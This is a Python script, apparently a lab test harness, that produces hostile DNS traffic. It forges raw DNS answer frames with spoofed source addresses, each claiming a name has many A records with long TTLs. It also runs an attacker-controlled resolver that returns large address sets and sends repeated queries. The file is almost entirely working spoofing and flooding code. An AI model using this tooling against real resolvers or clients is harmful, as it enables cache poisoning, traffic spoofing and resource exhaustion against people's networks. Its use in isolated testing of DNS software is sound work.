#!/usr/bin/env python3
"""DNS answers with many addresses, the ways a hostile device can make them.

usage:
  dns_flood.py forge IFACE SRC_MAC DST_MAC SRC_IP DST_IP NAME COUNT PER_ANSWER FIRST_ADDR
      (the attacker's namespace) COUNT forged answer frames (AF_PACKET) from SRC_IP:53 to
      DST_IP:33333, each saying NAME has PER_ANSWER A records (TTL 86400): consecutive IPv4
      addresses from FIRST_ADDR on.  Prints how many were sent.
  dns_flood.py serve ADDR PER_ANSWER NET[,NET...]
      (the upstream namespace) the attacker's own resolver on ADDR:53: answers every query
      with PER_ANSWER A records for its name, the next PER_ANSWER addresses of the networks
      each time (from the first again when all were given).
  dns_flood.py ask SERVER NAME COUNT
      (the attacker's namespace) COUNT ordinary queries of NAME at SERVER:53, one after the
      other; prints how many were answered.
"""
import random
import ipaddress
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def frame(src_mac, dst_mac, src_ip, dst_ip, payload, ident):
    s, d = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    ulen = 8 + len(payload)
    uh = struct.pack('!HHHH', 53, 33333, ulen, 0)
    pseudo = s + d + struct.pack('!BBH', 0, 17, ulen)
    uh = struct.pack('!HHHH', 53, 33333, ulen, csum(pseudo + uh + payload) or 0xffff)
    ih = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + ulen, ident, 0x4000, 64, 17, 0, s, d)
    ih = ih[:10] + struct.pack('!H', csum(ih)) + ih[12:]
    mac = lambda m: bytes(int(x, 16) for x in m.split(':'))
    return mac(dst_mac) + mac(src_mac) + b'\x08\x00' + ih + uh + payload


def answer(ident, name, addrs):
    q = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\0'
    msg = struct.pack('!HHHHHH', ident, 0x8180, 1, len(addrs), 0, 0) + q + b'\0\1\0\1'
    for a in addrs:
        msg += b'\xc0\x0c' + struct.pack('!HHIH', 1, 1, 86400, 4) + a.packed
    return msg


def qname(msg):
    i, labels = 12, []
    while i < len(msg) and msg[i]:
        labels.append(msg[i + 1:i + 1 + msg[i]].decode('ascii', 'replace'))
        i += 1 + msg[i]
    return '.'.join(labels)


def serve(addr, per, nets):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((addr, 53))
    pool = [a for n in nets.split(',') for a in ipaddress.IPv4Network(n)]
    nxt = 0
    while True:
        msg, peer = sock.recvfrom(2048)
        if len(msg) < 12:
            continue
        ident = struct.unpack('!H', msg[:2])[0]
        addrs = [pool[(nxt + k) % len(pool)] for k in range(per)]
        nxt += per
        sock.sendto(answer(ident, qname(msg), addrs), peer)


def ask(server, name, count):
    answered = 0
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        q = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\0'
        s.sendto(struct.pack('!HHHHHH', random.randint(0, 0xffff), 0x0100, 1, 0, 0, 0) + q +
                 b'\0\1\0\1', (server, 53))
        try:
            s.recv(4096)
            answered += 1
        except OSError:
            pass
        s.close()
    print(answered)


def main():
    if sys.argv[1] == 'serve':
        serve(sys.argv[2], int(sys.argv[3]), sys.argv[4])
        return
    if sys.argv[1] == 'ask':
        ask(sys.argv[2], sys.argv[3], int(sys.argv[4]))
        return
    iface, smac, dmac, sip, dip, name, count, per, first = sys.argv[2:11]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    addr = ipaddress.IPv4Address(first)
    for i in range(int(count)):
        addrs = [addr + i * int(per) + k for k in range(int(per))]
        sock.send(frame(smac, dmac, sip, dip, answer(0x1000 + i, name, addrs), 0x2000 + i))
    print(count)


main()
